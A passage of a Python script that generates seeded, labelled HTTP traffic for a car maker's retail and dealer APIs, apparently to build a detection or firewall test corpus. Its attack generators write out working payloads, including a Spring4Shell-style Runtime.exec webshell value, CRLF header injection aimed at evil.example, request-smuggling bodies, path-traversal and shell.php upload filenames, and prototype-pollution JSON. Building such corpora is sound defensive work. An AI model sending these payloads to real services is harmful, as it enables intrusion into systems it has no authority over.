        ctype = "application/x-www-form-urlencoded"
    elif kind == 10:
        method, path = "POST", "/v1/auth/password-reset"
        body, ctype = json_body(rng, {"email": email(rng), "locale": rng.choice(LOCALES)[0]}), "application/json"
    elif kind == 11:
        path = "/v1/accounts/me/orders"
        query = [("page", rng.randint(1, 4)), ("page_size", rng.choice((10, 20, 50))), ("status", rng.choice(("open", "delivered", "cancelled"))),
                 ("sort", rng.choice(("-created_at", "created_at", "-updated_at")))]
    elif kind == 12:
        method, path = "POST", "/v1/orders"
        name = rng.choice(NAMES)
        city = rng.choice(CITIES)
        obj = {"model": rng.choice(MODELS), "trim": rng.choice(TRIMS), "colour": rng.choice(COLOURS),
               "options": rng.sample(OPTION_CODES, rng.randint(0, 4)), "dealer_id": dealer_id(rng),
               "delivery": {"name": name, "street": rng.choice(STREETS), "city": city[0], "postcode": city[1], "country": city[2].upper()},
               "contact": {"email": email(rng), "phone": phone(rng)}}
        if rng.random() < 0.6:
            obj["comment"] = rng.choice(COMMENTS)
        body, ctype = json_body(rng, obj), "application/json"
    elif kind == 13:
        path = "/v1/orders/ORD-%d-%06d" % (rng.randint(2023, 2025), rng.randint(1, 999999))
        if rng.random() < 0.3:
            method, path = "POST", path + "/cancel"
            body, ctype = json_body(rng, {"reason": rng.choice(COMMENTS)}), "application/json"
    elif kind == 14:
        path = "/v1/search"
        query = [("q", rng.choice(SEARCHES)), ("market", rng.choice(MARKETS))]
        if rng.random() < 0.4:
            query.append(("page", rng.randint(1, 9)))
    elif kind == 15:
        method = "POST"
        path = rng.choice(("/v1/newsletter", "/v1/contact"))
        pairs = [("email", email(rng)), ("name", rng.choice(NAMES)), ("locale", rng.choice(LOCALES)[0])]
        if path == "/v1/contact":
            pairs.append(("message", rng.choice(COMMENTS)))
            pairs.append(("phone", phone(rng)))
        else:
            pairs.append(("consent", "yes"))
        body = form_body(rng, pairs)
        ctype = rng.choice(("application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"))
        profile = "browser"
    else:
        method = "OPTIONS"
        path = rng.choice(("/v1/orders", "/v1/test-drives", "/v1/configurator/quotes"))
        profile = "preflight"
    return method, path, query, body, ctype, profile


def benign_dealer(rng: random.Random) -> tuple:
    kind = rng.randrange(11)
    method, path, query, body, ctype = "GET", "/", [], None, None
    profile = "partner"
    if kind == 0:
        path = "/v1/inventory"
        query = [("model", rng.choice(MODELS)), ("year", rng.randint(2019, 2025)), ("fuel", rng.choice(("petrol", "diesel", "hybrid", "electric"))),
                 ("page", rng.randint(1, 40)), ("page_size", rng.choice((25, 50, 100)))]
        rng.shuffle(query)
        query = query[: rng.randint(1, 5)]
    elif kind == 1:
        path = "/v1/inventory/STK-%08d" % rng.randint(1, 99999999)
    elif kind == 2:
        path = rng.choice(("/v1/vehicles/%s", "/v1/na/vehicles/%s", "/v1/vehicles/%s/recalls")) % vin(rng)
    elif kind == 3:
        path = "/v1/orders"
        query = [("status", rng.choice(("open", "in_production", "shipped", "delivered"))), ("from", iso_date(rng)), ("to", iso_date(rng)),
                 ("page", rng.randint(1, 20))]
    elif kind == 4:
        method, path = "POST", "/v1/orders"
        obj = {"model": rng.choice(MODELS), "trim": rng.choice(TRIMS), "colour": rng.choice(COLOURS), "quantity": rng.randint(1, 12),
               "customer": {"name": rng.choice(NAMES), "email": email(rng), "phone": phone(rng)},
               "requested_delivery": iso_date(rng)}
        if rng.random() < 0.6:
            obj["comment"] = rng.choice(COMMENTS)
        body, ctype = json_body(rng, obj), "application/json"
    elif kind == 5:
        path = "/v1/orders/ORD-%d-%06d" % (rng.randint(2023, 2025), rng.randint(1, 999999))
    elif kind == 6:
        path = "/v1/warranty-claims"
        query = [("vin", vin(rng))] if rng.random() < 0.5 else [("status", rng.choice(("submitted", "approved", "rejected"))), ("page", rng.randint(1, 9))]
    elif kind == 7:
        method, path = "POST", "/v1/warranty-claims"
        obj = {"vin": vin(rng), "mileage_km": rng.randint(0, 250000), "failure_code": rng.choice(FAILURE_CODES),
               "repair_date": iso_date(rng), "comment": rng.choice(COMMENTS),
               "parts": [{"part_no": rng.choice(PART_NOS), "qty": rng.randint(1, 4)} for _ in range(rng.randint(0, 3))]}
        body, ctype = json_body(rng, obj), "application/json"
    elif kind == 8:
        path = "/v1/warranty-claims/" + uuid4(rng)
    elif kind == 9:
        method, path = "POST", "/v1/warranty-claims/%s/documents" % uuid4(rng)
        ftype = rng.choice(("application/pdf", "image/jpeg", "image/png", "text/plain"))
        ext = {"application/pdf": "pdf", "image/jpeg": "jpg", "image/png": "png", "text/plain": "txt"}[ftype]
        fname = rng.choice(("invoice-%d", "IMG_%d", "repair order %d", "Schadensbericht_%d", "photo-%d")) % rng.randint(100, 9999) + "." + ext
        body, ctype = multipart_body(rng, [("description", rng.choice(COMMENTS)), ("kind", rng.choice(("invoice", "photo", "report")))],
                                     [("file", fname, ftype, FILE_CONTENT[ftype])])
    else:
        method, path = "POST", "/v1/inventory/feed"
        fields = [("vin", vin(rng)), ("model", rng.choice(MODELS)), ("colour", rng.choice(COLOURS)), ("dealer", dealer_id(rng)),
                  ("price", "%d.00" % rng.randint(25000, 90000)), ("notes", xml_escape(rng.choice(COMMENTS)))]
        body, ctype = xml_body("vehicle", fields), rng.choice(("application/xml", "text/xml; charset=utf-8"))
    return method, path, query, body, ctype, profile


def benign_request(rng: random.Random, cls: str) -> dict:
    site = "retail" if cls == "benign-retail" else "dealer"
    method, path, query, body, ctype, profile = (benign_retail if site == "retail" else benign_dealer)(rng)
    if profile == "preflight":
        h = base_headers(rng, site, "spa", method)
        h.drop("Authorization")
        h.add("Access-Control-Request-Method", "POST")
        h.add("Access-Control-Request-Headers", rng.choice(("content-type,authorization", "content-type", "authorization,x-request-id")))
    else:
        h = base_headers(rng, site, profile, method)
    uri = path
    if query:
        uri += "?" + query_string(rng, query, rng.choice(("strict", "form")))
    if body is not None:
        with_body(h, body, ctype)
    return make_line(method, uri, h, body, "-", "-")


def make_line(method: str, uri: str, h: Headers, body, place: str, encoding: str) -> dict:
    return {"method": method, "uri": uri, "version": "1.1", "headers": h.items, "body": body, "place": place, "encoding": encoding}


# --------------------------------------------------------------------------- attack requests

GET_ROUTES = (
    ("retail", "/v1/search", "q"), ("retail", "/v1/dealers", "postcode"), ("retail", "/v1/configurator/models", "market"),
    ("retail", "/v1/test-drives/slots", "model"), ("retail", "/v1/accounts/me/orders", "sort"), ("retail", "/v1/search", "q"),
    ("dealer", "/v1/inventory", "model"), ("dealer", "/v1/orders", "status"), ("dealer", "/v1/warranty-claims", "vin"),
    ("retail", "/index.php", "page"), ("retail", "/download", "file"), ("retail", "/v1/redirect", "url"),
    ("retail", "/v1/content", "template"), ("dealer", "/v1/reports", "filter"), ("retail", "/v1/search", "callback"),
)
POST_ROUTES = (
    ("retail", "/v1/test-drives", "comment"), ("retail", "/v1/orders", "comment"), ("retail", "/v1/contact", "message"),
    ("retail", "/v1/auth/login", "email"), ("retail", "/v1/configurator/quotes", "postcode"), ("dealer", "/v1/warranty-claims", "comment"),
    ("dealer", "/v1/orders", "comment"), ("retail", "/v1/newsletter", "name"),
)
PATH_ROUTES = (
    ("retail", "/v1/configurator/models/%s"), ("retail", "/v1/orders/%s"), ("dealer", "/v1/vehicles/%s"), ("dealer", "/v1/inventory/%s"),
    ("retail", "/v1/test-drives/%s"), ("retail", "/assets/%s"), ("retail", "/v1/content/%s"), ("dealer", "/v1/warranty-claims/%s/documents"),
)
PARAM_NAMES = {
    "lfi": ("file", "page", "template", "path", "doc", "include", "lang", "view", "download", "img"),
    "rfi": ("url", "page", "include", "file", "src", "template", "load", "remote", "feed", "path"),
    "php": ("cmd", "code", "page", "data", "input", "file", "q", "template"),
}

DEFAULT_PLACES = (
    ("query-value", 30), ("form", 12), ("json", 14), ("cookie", 8), ("path", 7), ("query-name", 4), ("referer", 4), ("user-agent", 4),
    ("header", 3), ("multipart-value", 5), ("multipart-filename", 2), ("xml", 4), ("raw-body", 3),
)
PLACES = {
    "lfi": (("query-value", 35), ("path", 15), ("json", 10), ("form", 8), ("cookie", 6), ("header", 5), ("multipart-filename", 6),
            ("multipart-value", 3), ("xml", 6), ("user-agent", 2), ("raw-body", 2), ("query-name", 2)),
    "rfi": (("query-value", 55), ("form", 12), ("json", 12), ("cookie", 5), ("multipart-value", 4), ("xml", 4), ("header", 3), ("raw-body", 5)),
    "java": (("query-value", 25), ("user-agent", 12), ("header", 10), ("json", 12), ("form", 8), ("cookie", 6), ("xml", 10), ("referer", 3),
             ("raw-body", 6), ("multipart-value", 4), ("query-name", 4)),
    "nodejs": (("query-value", 30), ("json", 30), ("form", 12), ("cookie", 6), ("query-name", 6), ("json-key", 8), ("multipart-value", 4), ("xml", 4)),
    "php": (("query-value", 28), ("form", 14), ("json", 10), ("cookie", 8), ("multipart-value", 8), ("multipart-filename", 8), ("xml", 6),
            ("user-agent", 4), ("path", 4), ("raw-body", 5), ("query-name", 5)),
    "session-fixation": (("query-value", 50), ("form", 15), ("json", 15), ("cookie", 8), ("xml", 6), ("multipart-value", 6)),
}

def _seed_or_grammar(rng: random.Random, seeds, grammar, seed_share: float, mutate=None, mutate_share: float = 0.0) -> str:
    text = rng.choice(seeds) if rng.random() < seed_share else grammar(rng)
    if mutate is not None and rng.random() < mutate_share:
        text = mutate(rng, text)
    return text


def php_payload(rng: random.Random) -> str:
    text = rng.choice(PHP_SEEDS) if rng.random() < 0.6 else php_grammar(rng)
    if rng.random() < 0.15 and not text.startswith(("O:", "a:")):
        text = random_case(rng, text, 0.2)
    return text


PAYLOAD_GENERATORS = {
    "sqli": lambda rng: _seed_or_grammar(rng, SQLI_SEEDS, sqli_grammar, 0.5, mutate_sql, 0.35),
    "xss": lambda rng: _seed_or_grammar(rng, XSS_SEEDS, xss_grammar, 0.55, mutate_xss, 0.35),
    "rce-unix": lambda rng: _seed_or_grammar(rng, UNIX_SEEDS, unix_grammar, 0.55, mutate_shell, 0.3),
    "rce-windows": lambda rng: _seed_or_grammar(rng, WINDOWS_SEEDS, windows_grammar, 0.6, mutate_windows, 0.3),
    "lfi": lambda rng: _seed_or_grammar(rng, LFI_SEEDS, lfi_grammar, 0.4),
    "rfi": rfi_payload,
    "php": php_payload,
    "java": java_payload,
    "nodejs": node_payload,
    "session-fixation": lambda rng: rng.choice(SESSION_SEEDS),
}


def attack_request(rng: random.Random, cls: str) -> dict:
    if cls == "protocol":
        return protocol_request(rng)
    if cls == "scanner":
        return scanner_request(rng)
    if cls == "restricted-file":
        return restricted_request(rng)
    if cls == "session-fixation" and rng.random() < 0.5:
        return session_param_request(rng)
    if cls == "java" and rng.random() < 0.1:
        return spring_request(rng)
    payload = PAYLOAD_GENERATORS[cls](rng)
    place = weighted(rng, PLACES.get(cls, DEFAULT_PLACES))
    return place_payload(rng, cls, payload, place)


def place_payload(rng: random.Random, cls: str, payload: str, place: str) -> dict:
    """Put ``payload`` (the decoded value the attacker means) at ``place``."""
    mode = weighted(rng, QUERY_ENCODINGS)
    if cls == "lfi" and rng.random() < 0.1:
        mode = "overlong"
    if cls == "xss" and rng.random() < 0.08:
        payload = html_entities(rng, payload, 0.5)
    get_site, get_path, param = rng.choice(GET_ROUTES)
    if cls in PARAM_NAMES and rng.random() < 0.7:
        param = rng.choice(PARAM_NAMES[cls])
    post_site, post_path, field = rng.choice(POST_ROUTES)
    method, body, ctype = "GET", None, None
    site, uri = get_site, get_path
    benign_pairs = [(k, v) for k, v in (("page", rng.randint(1, 5)), ("market", rng.choice(MARKETS)), ("lang", rng.choice(LOCALES)[0]))
                    if rng.random() < 0.35 and k != param]

    if place == "query-value":
        pairs = benign_pairs[:]
        pairs.insert(rng.randint(0, len(pairs)), (param, "\0PAYLOAD\0"))
        uri += "?" + "&".join("%s=%s" % (k, encode_value(rng, payload, mode) if v == "\0PAYLOAD\0" else encode_value(rng, str(v), "strict")) for k, v in pairs)
    elif place == "query-name":
        mode = rng.choice(("strict", "loose", "form"))
        uri += "?" + encode_value(rng, payload, mode) + rng.choice(("=1", "=", "=x", ""))
    elif place == "path":
        route_site, pattern = rng.choice(PATH_ROUTES)
        site = route_site
        if mode in ("overlong", "double", "unicode", "fullwidth", "encode-all"):
            segment = encode_value(rng, payload, mode)
        else:
            segment = enc(T_PATH_RAW if rng.random() < 0.5 else T_PATH, payload)
            mode = "path"
        uri = pattern % segment
    elif place == "user-agent":
        mode = "header"
    elif place in ("cookie", "referer", "header"):
        mode = "header" if rng.random() < 0.75 else "strict"
    elif place in ("form", "json", "json-key", "raw-body", "multipart-value", "multipart-filename", "xml"):
        method, site, uri = "POST", post_site, post_path
        if rng.random() < 0.15:
            uri += "?" + query_string(rng, [("lang", rng.choice(LOCALES)[0])])

    h = base_headers(rng, site, rng.choice(("spa", "spa", "browser", "app")) if site == "retail" else "partner", method)

    if place == "cookie":
        value = enc(T_COOKIE, payload) if mode == "header" else enc(T_STRICT, payload)
        name = rng.choice(("prefs", "last_search", "locale", "session", "tracking", "cart", "dealer"))
        cookie = "%s=%s" % (name, value)
        existing = [v for n, v in h.items if n.lower() == "cookie"]
        h.drop("Cookie")
        h.add("Cookie", (existing[0] + "; " + cookie) if existing and rng.random() < 0.7 else cookie)
    elif place == "referer":
        value = enc(T_HEADER, payload) if mode == "header" else enc(T_STRICT, payload)
        h.set("Referer", rng.choice((RETAIL_SITE + "/search?q=" + value, value, "https://evil.example/" + value)))
    elif place == "user-agent":
        value = enc(T_HEADER, payload)
        h.set("User-Agent", value if rng.random() < 0.6 else "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " + value)
    elif place == "header":
        value = enc(T_HEADER, payload) if mode == "header" else enc(T_STRICT, payload)
        h.add(rng.choice(("X-Forwarded-Host", "X-Api-Version", "X-Custom-Data", "X-Correlation-Id", "X-Original-URL", "True-Client-IP", "X-Device")), value)
    elif place == "form":
        pairs = [(k, v) for k, v in (("name", rng.choice(NAMES)), ("email", email(rng))) if k != field]
        pairs.insert(rng.randint(0, len(pairs)), (field, payload))
        mode = rng.choice(("form", "form", "strict", "loose", "double", "unicode"))
        body = "&".join("%s=%s" % (enc(T_FORM, k), encode_value(rng, v, mode) if v == payload else enc(T_FORM, v)) for k, v in pairs)
        ctype = rng.choice(("application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"))
    elif place == "json":
        obj = {"model": rng.choice(MODELS), "dealer_id": dealer_id(rng)}
        target = obj
        if rng.random() < 0.3:
            obj["customer"] = {"name": rng.choice(NAMES)}
            target = obj["customer"]
        target[field] = payload if rng.random() < 0.85 else [payload]
        body, ctype, mode = json_body(rng, obj), rng.choice(("application/json", "application/json; charset=utf-8")), "json"
    elif place == "json-key":
        obj = {"model": rng.choice(MODELS)}
        obj[payload.split("=")[0] if "=" in payload and len(payload) < 40 else payload] = rng.choice((True, 1, "x", {"isAdmin": True}))
        if rng.random() < 0.5:
            obj = {"__proto__": {"isAdmin": True}, "model": rng.choice(MODELS)} if cls == "nodejs" and rng.random() < 0.5 else obj
        body, ctype, mode = json_body(rng, obj), "application/json", "json"
    elif place == "raw-body":
        body = payload if rng.random() < 0.5 else "%s=%s" % (field, payload)
        ctype, mode = None, "raw"
    elif place == "multipart-value":
        fields = [("name", rng.choice(NAMES))] if field != "name" else [("email", email(rng))]
        body, ctype = multipart_body(rng, fields + [(field, payload)], [])
        mode = "raw"
    elif place == "multipart-filename":
        filename = payload.replace("\r", "").replace("\n", "").replace("\x00", "")
        if cls in ("php", "rce-unix", "lfi") and rng.random() < 0.3:
            filename = rng.choice(("shell.php", "x.phtml", "avatar.php5", "image.jpg.php", "cmd.php7", "info.PhP")) if cls == "php" else filename
        body, ctype = multipart_body(rng, [("description", rng.choice(COMMENTS))], [("file", filename, rng.choice(("image/jpeg", "application/pdf", "application/octet-stream")), FILE_CONTENT["image/jpeg"])])
        mode = "raw"
    elif place == "xml":
        value = "<![CDATA[%s]]>" % payload if rng.random() < 0.3 and "]]>" not in payload else xml_escape(payload)
        if payload.startswith("<?xml") or payload.startswith("<java") or payload.startswith("<map"):
            body = payload
        else:
            body = xml_body(rng.choice(("booking", "order", "claim", "request")), [("model", rng.choice(MODELS)), (field, value)])
        ctype, mode = rng.choice(("application/xml", "text/xml", "text/xml; charset=utf-8", "application/soap+xml")), "xml"
    if body is not None:
        with_body(h, body, ctype)
    return make_line(method, uri, h, body, place, mode)


def session_param_request(rng: random.Random) -> dict:
    site, path, _ = rng.choice(GET_ROUTES[:9])
    h = base_headers(rng, site, rng.choice(("browser", "spa")), "GET")
    name = rng.choice(SESSION_NAMES)
    token = rand_token(rng, rng.choice((16, 24, 32)), "0123456789ABCDEF")
    r = rng.random()
    if r < 0.45:
        h.drop("Referer")
        place = "query-name"
    elif r < 0.9:
        h.set("Referer", rng.choice(("https://evil.example/landing", "http://198.51.100.7/x.html", "https://phish.example.net/automaker/login")))
        place = "query-name"
    else:
        place = "path"
    if place == "path":
        uri = "%s;%s=%s" % (path, name.lower(), token)
    else:
        uri = "%s?%s=%s" % (path, name, token) if rng.random() < 0.6 else "%s?page=1&%s=%s" % (path, name, token)
    return make_line("GET", uri, h, None, place, "strict")


def spring_request(rng: random.Random) -> dict:
    h = base_headers(rng, "retail", "browser", "POST")
    name = rng.choice(SPRING_NAMES)
    value = rng.choice(("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }",
                        ".jsp", "webapps/ROOT", "tomcatwar", "java.lang.Runtime"))
    body = form_body(rng, [(name, value), ("model", rng.choice(MODELS))], "strict")
    with_body(h, body, "application/x-www-form-urlencoded")
    return make_line("POST", "/v1/contact", h, body, "form", "strict")


def protocol_request(rng: random.Random) -> dict:
    """A request that breaks HTTP expectations rather than carrying an injection."""
    site = rng.choice(("retail", "dealer"))
    h = base_headers(rng, site, "spa" if site == "retail" else "partner", "GET")
    method, uri, body, ctype = "GET", rng.choice(("/v1/search?q=suv", "/v1/inventory?page=2", "/v1/configurator/models?market=de", "/v1/orders")), None, None
    kind = rng.randrange(24)
    if kind == 0:
        method = rng.choice(("PUT", "DELETE", "PATCH", "TRACE", "TRACK", "PROPFIND", "MOVE", "COPY", "DEBUG", "FOO", "MKCOL", "LOCK", "SEARCH", "CONNECT"))
        if method in ("PUT", "PATCH"):
            body, ctype = json_body(rng, {"status": "cancelled"}), "application/json"
    elif kind == 1:
        h.drop("Host")
    elif kind == 2:
        h.set("Host", rng.choice(("", "203.0.113.10", "127.0.0.1", "10.0.0.5:8080", "[::1]")))
    elif kind == 3:
        value = rng.choice(("%0d%0aSet-Cookie:%20admin=true", "%0d%0aLocation:%20http://evil.example/", "x%0aX-Forwarded-For:%20127.0.0.1",
                            "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<html>x</html>",
                            "en%0d%0aRefresh:%200;url=http://evil.example", "%0d%0a%0d%0a<script>alert(1)</script>", "a%0d%0aHost:%20evil.example"))
        uri = "/v1/redirect?url=%2Fde%2Fmodels&lang=" + value if rng.random() < 0.5 else "/v1/search?q=" + value
    elif kind == 4:
        uri = "/v1/search?" + rng.choice(("x%0d%0aInjected:%20header=1", "q%0aSet-Cookie:%20a=b=1", "lang%0d%0a=de"))
    elif kind == 5:
        uri = rng.choice(("/v1/search?q=%zz", "/v1/search?q=100%", "/v1/search?q=%u12", "/v1/%gg/models", "/v1/search?q=a%2", "/v1/search?q=%%41", "/v1/dealers?postcode=10%1G15"))
    elif kind == 6:
        uri = rng.choice(("/download?file=report.pdf%00.php", "/v1/search?q=abc%00def", "/v1/content/index%00.html", "/v1/search?%00=1"))
    elif kind == 7:
        method = "POST"
        body = rng.choice(("<?php echo 1; ?>", "<html><body>hello</body></html>", "{\"a\":1}", "a=1", "\x00\x01binary"))
        ctype = rng.choice(("application/x-php", "text/html", "application/x-shockwave-flash", "text/x-shellscript", "application/vnd.ms-excel", "image/svg+xml", "foo/bar", "text/plain"))
    elif kind == 8:
        method = "POST"
        body = json_body(rng, {"model": rng.choice(MODELS)})
        ctype = rng.choice(("application/json; charset=utf-7", "application/json; charset=ibm037", "application/x-www-form-urlencoded; charset=utf-32",
                            "application/json;;", "application/json, text/html", "application/json; charset=\"utf-8\"; charset=utf-7", "multipart/form-data"))
    elif kind == 9:
        method = "POST"
        boundary = "----b" + rand_token(rng, 12)
        variant = rng.randrange(5)
        if variant == 0:
            part = 'Content-Disposition: form-data; name="doc"; filename="a.txt"\r\nContent-Transfer-Encoding: base64\r\n\r\nYQ=='
        elif variant == 1:
            part = 'Content-Disposition: form-data; name="_charset_"\r\n\r\nutf-7'
        elif variant == 2:
            part = 'Content-Disposition: form-data; name="doc"; filename="a.txt"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\nabc'
        elif variant == 3:
            part = 'Content-Disposition: form-data; name="doc"; filename="%s"\r\nContent-Type: application/octet-stream\r\n\r\nx' % rng.choice(
                (".htaccess", "web.config", "../../../etc/cron.d/job", "shell.php", "a\";.php", ".user.ini", "x.phtml", "..\\..\\boot.ini"))
        else:
            part = 'Content-Disposition: form-data; name="a"; name="b"\r\n\r\nx'
        body = "--%s\r\n%s\r\n--%s--\r\n" % (boundary, part, boundary)
        ctype = "multipart/form-data; boundary=" + boundary
    elif kind == 10:
        # GET with a body (or at least a declared one)
        body = "q=" + "a" * rng.randint(3, 300)
        if rng.random() < 0.5:
            h.set("Content-Length", str(len(body)))
            body = None
        else:
            ctype = "application/x-www-form-urlencoded"
    elif kind == 11:
        method = "POST"
        body = form_body(rng, [("q", "x")])
        h.set("Content-Type", "application/x-www-form-urlencoded")
        h.set("Content-Length", rng.choice(("12abc", "-1", "0x10", "1 2")))
        return make_line(method, "/v1/contact", h, body, "request", "strict")
    elif kind == 12:
        method = "POST"
        body = form_body(rng, [("q", "x")])
        h.set("Content-Type", "application/x-www-form-urlencoded")
        h.add("Transfer-Encoding", "chunked")
        with_body(h, body, None)
        return make_line(method, "/v1/contact", h, body, "request", "strict")
    elif kind == 13:
        h.add("Range", rng.choice(("bytes=10-5", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13", "bytes=-", "bytes=5-0")))
    elif kind == 14:
        h.add(*rng.choice((("Proxy", "http://evil.example:8080"), ("Lock-Token", "<opaquelocktoken:x>"), ("Content-Range", "bytes 0-10/20"),
                           ("If", "(<urn:uuid:x>)"), ("Accept-Charset", "utf-7"), ("Content-Encoding", "gzip"))))
    elif kind == 15:
        h.set("Accept", "")
        h.set("User-Agent", "")
        if rng.random() < 0.5:
            h.drop("Host")
        else:
            h.set("Host", "198.51.100.20")
    elif kind == 16:
        uri = rng.choice(("/v1/search?q=%uff1cscript%uff1e", "/v1/search?q=%uFF07%uFF20", "/v1/%uff0e%uff0e/admin", "/v1/search?q=%u0027%u0020or%u00201=1"))
    elif kind == 17:
        method = "POST"
        body = rng.choice((
            "q=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n",
            "x=y&z=POST /v1/orders HTTP/1.0",
            "0\r\n\r\nGET /internal/metrics HTTP/1.1\r\nX: x",
        ))
        ctype = rng.choice(("application/x-www-form-urlencoded", "text/plain"))
    elif kind == 18:
        uri = rng.choice(("index.php", "v1/search?q=1", "*", "//v1//search", "/v1/search?q=1#frag", "http://evil.example/v1/search", "/v1/se arch"))
        uri = uri.replace(" ", "%20")
        if uri == "*":
            method = rng.choice(("GET", "OPTIONS"))
    elif kind == 19:
        method = rng.choice(("GeT", "get", "G3T", "M-SEARCH", "GETS"))
    elif kind == 20:
        method = "POST"
        body = rng.choice(("q=%zz&x=1", "a=%u00&b=2", "comment=50%+off", "x=%G1"))
        ctype = "application/x-www-form-urlencoded"
    elif kind == 21:
        h.drop("User-Agent")
        h.drop("Accept")
        h.set("Host", rng.choice(("10.1.2.3", "203.0.113.77")))
    elif kind == 22:
        method = "POST"
        body = form_body(rng, [("comment", rng.choice(COMMENTS))])
        ctype = None  # body without Content-Type
        h.set("Content-Length", str(len(body.encode("utf-8"))))
        h.set("Host", "198.51.100.99")
        return make_line(method, "/v1/contact", h, body, "request", "strict")
    else:
        method = "POST"
        body = json_body(rng, {"model": "vela-e"})
        h.set("Content-Type", "application/json")  # POST without Content-Length
        h.set("Host", rng.choice(("203.0.113.5", "192.0.2.1:443")))
        return make_line(method, "/v1/configurator/quotes", h, body, "request", "strict")
    if body is not None:
        with_body(h, body, ctype)
    return make_line(method, uri, h, body, "request", "strict")


def scanner_request(rng: random.Random) -> dict:
    site = rng.choice(("retail", "dealer"))
    h = base_headers(rng, site, "browser", "GET")
    uri = rng.choice(SCANNER_PATHS)
    r = rng.random()
    place = "user-agent"
    if r < 0.65:
        h.set("User-Agent", rng.choice(SCANNER_AGENTS))
    elif r < 0.8:
        h.add(*rng.choice(SCANNER_HEADERS))
        place = "header"
    else:
        uri = rng.choice(SCANNER_PATHS[:10])
        place = "path"
    if rng.random() < 0.25:
        h.drop("Accept-Language")
        h.drop("Referer")
        h.drop("Cookie")
    return make_line("GET", uri, h, None, place, "strict")


def restricted_request(rng: random.Random) -> dict:
    site = rng.choice(("retail", "dealer"))
    h = base_headers(rng, site, rng.choice(("browser", "spa")), "GET")
    path = rng.choice(RESTRICTED_PATHS)
    if rng.random() < 0.3:
        path = rng.choice(("/v1", "/static", "/assets", "/app", "/backup", "/old")) + path
    if rng.random() < 0.15:
        path = random_case(rng, path, 0.3)
    encoding = "strict"
    if rng.random() < 0.1:
        path = path.replace(".", "%2e", 1)
        encoding = "pct-dot"
    if rng.random() < 0.2:
        h.set("User-Agent", rng.choice(SCANNER_AGENTS[-3:]))
    return make_line(rng.choice(("GET", "GET", "GET", "HEAD")), path, h, None, "path", encoding)


# --------------------------------------------------------------------------- main


def class_weights(classes: list[str]) -> list[tuple[str, float]]:
    attacks = [c for c in classes if c in ATTACK_WEIGHTS]
    benign = [c for c in classes if c in BENIGN_WEIGHTS]
    out: list[tuple[str, float]] = []
    if attacks and benign:
        a_total = sum(ATTACK_WEIGHTS[c] for c in attacks)
        b_total = sum(BENIGN_WEIGHTS[c] for c in benign)
        out += [(c, 0.6 * ATTACK_WEIGHTS[c] / a_total) for c in attacks]
        out += [(c, 0.4 * BENIGN_WEIGHTS[c] / b_total) for c in benign]
    else:
        out += [(c, float(ATTACK_WEIGHTS.get(c) or BENIGN_WEIGHTS[c])) for c in classes]
    return out


def generate(seed: int, count: int, classes: list[str] | None = None):
    """Yield ``count`` corpus lines (dicts), deterministic for (seed, count, classes)."""
    rng = random.Random(seed)
    weights = class_weights(classes or CLASSES)
    names = [c for c, _ in weights]
    cum = []
    total = 0.0
    for _, w in weights:
        total += w
        cum.append(total)
    for n in range(1, count + 1):
        cls = rng.choices(names, cum_weights=cum)[0]
        line = benign_request(rng, cls) if cls in BENIGN_WEIGHTS else attack_request(rng, cls)
        yield {"id": n, "class": cls, **line}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Seeded generator of labelled HTTP requests (JSON lines on stdout).")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--count", type=int, default=3000)
    parser.add_argument("--classes", help="comma-separated subset of: " + ",".join(CLASSES))
    args = parser.parse_args(argv)
    classes = None
    if args.classes:
        classes = [c.strip() for c in args.classes.split(",") if c.strip()]
        unknown = [c for c in classes if c not in CLASSES]
        if unknown:
            parser.error("unknown classes: %s (known: %s)" % (", ".join(unknown), ", ".join(CLASSES)))
    write = sys.stdout.write
    dumps = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
    try:
        for line in generate(args.seed, args.count, classes):
            write(dumps(line) + "\n")
        sys.stdout.flush()
    except BrokenPipeError:  # the reader went away (| head)
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
    return 0


if __name__ == "__main__":
    sys.exit(main())
